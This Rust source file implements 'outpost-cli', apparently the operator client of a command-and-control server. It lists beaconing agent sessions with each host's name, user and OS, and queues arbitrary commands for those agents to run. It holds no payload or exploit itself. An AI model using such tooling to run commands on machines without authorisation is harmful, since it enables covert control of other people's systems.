//! outpost-cli: operator client for the Outpost HTTP channel
//!
//! # Subcommands
//! - `sessions [--json]`: list live sessions on both transports
//! - `queue <session_id> <command>`: queue a command for an HTTP agent's next beacon

use clap::{Parser, Subcommand};
use serde::Deserialize;

const DEFAULT_SERVER: &str = "http://127.0.0.1:8080";

// ============================================================================
// CLI Definition
// ============================================================================

#[derive(Debug, Parser)]
#[command(name = "outpost-cli", version, about = "Operator CLI for the Outpost session server")]
struct Cli {
    /// Outpost HTTP listener URL (overrides OUTPOST_HTTP_URL env var)
    #[arg(long, env = "OUTPOST_HTTP_URL", default_value = DEFAULT_SERVER)]
    server: String,

    #[command(subcommand)]
    command: Commands,
}

#[derive(Debug, Subcommand)]
enum Commands {
    /// List live sessions
    Sessions {
        /// Print the raw JSON listing
        #[arg(long)]
        json: bool,
    },

    /// Queue a command for an HTTP session
    Queue {
        /// Target session, e.g. session_3
        session_id: String,

        /// Command text delivered on the next beacon
        command: String,
    },
}

// ============================================================================
// API Response Types
// ============================================================================

#[derive(Debug, Deserialize)]
pub struct SessionEntry {
    pub id: String,
    pub transport: String,
    pub remote_addr: String,
    pub metadata: Option<serde_json::Map<String, serde_json::Value>>,
    pub created_at: String,
    pub last_seen_at: String,
    #[serde(default)]
    pub has_pending_command: bool,
}

#[derive(Debug, Deserialize)]
pub struct SessionsResponse {
    pub count: usize,
    pub sessions: Vec<SessionEntry>,
}

#[derive(Debug, Deserialize)]
pub struct ErrorBody {
    pub error: String,
}

// ============================================================================
// Formatting
// ============================================================================

/// "hostname (user@os)" from whatever system info the agent reported.
pub fn describe(entry: &SessionEntry) -> String {
    let field = |key: &str| {
        entry
            .metadata
            .as_ref()
            .and_then(|m| m.get(key))
            .and_then(|v| v.as_str())
            .unwrap_or("?")
            .to_string()
    };
    if entry.metadata.is_none() {
        return "-".to_string();
    }
    format!("{} ({}@{})", field("hostname"), field("user"), field("os"))
}

pub fn format_row(entry: &SessionEntry) -> String {
    let pending = if entry.has_pending_command { "*" } else { "" };
    format!(
        "{:<12} {:<5} {:<22} {:<32} {}{}",
        entry.id,
        entry.transport,
        entry.remote_addr,
        describe(entry),
        entry.last_seen_at,
        pending
    )
}

// ============================================================================
// HTTP Client Calls
// ============================================================================

fn client() -> anyhow::Result<reqwest::blocking::Client> {
    Ok(reqwest::blocking::Client::builder()
        .timeout(std::time::Duration::from_secs(10))
        .build()?)
}

/// Pull the server's error message out of a failed response.
fn server_error(resp: reqwest::blocking::Response) -> anyhow::Error {
    let status = resp.status();
    let text = resp.text().unwrap_or_default();
    let message = serde_json::from_str::<ErrorBody>(&text)
        .map(|b| b.error)
        .unwrap_or(text);
    anyhow::anyhow!("server returned {}: {}", status, message)
}

fn do_sessions(server: &str, json_output: bool) -> anyhow::Result<()> {
    let url = format!("{}/sessions", server);
    let resp = client()?
        .get(&url)
        .send()
        .map_err(|e| anyhow::anyhow!("cannot reach {}: {}", url, e))?;

    if !resp.status().is_success() {
        return Err(server_error(resp));
    }

    if json_output {
        let body: serde_json::Value = resp.json()?;
        println!("{}", serde_json::to_string_pretty(&body)?);
        return Ok(());
    }

    let listing: SessionsResponse = resp.json()?;
    if listing.sessions.is_empty() {
        eprintln!("No active sessions");
        return Ok(());
    }

    println!(
        "{:<12} {:<5} {:<22} {:<32} LAST SEEN",
        "ID", "VIA", "REMOTE", "HOST"
    );
    for entry in &listing.sessions {
        println!("{}", format_row(entry));
    }
    println!("\n{} session(s)", listing.count);

    Ok(())
}

fn do_queue(server: &str, session_id: &str, command: &str) -> anyhow::Result<()> {
    let url = format!("{}/cmd", server);
    let body = serde_json::json!({
        "session_id": session_id,
        "command": command,
    });

    let resp = client()?
        .post(&url)
        .json(&body)
        .send()
        .map_err(|e| anyhow::anyhow!("cannot reach {}: {}", url, e))?;

    if !resp.status().is_success() {
        return Err(server_error(resp));
    }

    println!("Queued for {}: {}", session_id, command);
    Ok(())
}

// ============================================================================
// Main
// ============================================================================

fn main() {
    let cli = Cli::parse();
    let server = cli.server.trim_end_matches('/').to_string();

    let result = match cli.command {
        Commands::Sessions { json } => do_sessions(&server, json),
        Commands::Queue { session_id, command } => do_queue(&server, &session_id, &command),
    };

    if let Err(e) = result {
        eprintln!("outpost-cli: {}", e);
        std::process::exit(1);
    }
}

// ============================================================================
// Tests
// ============================================================================
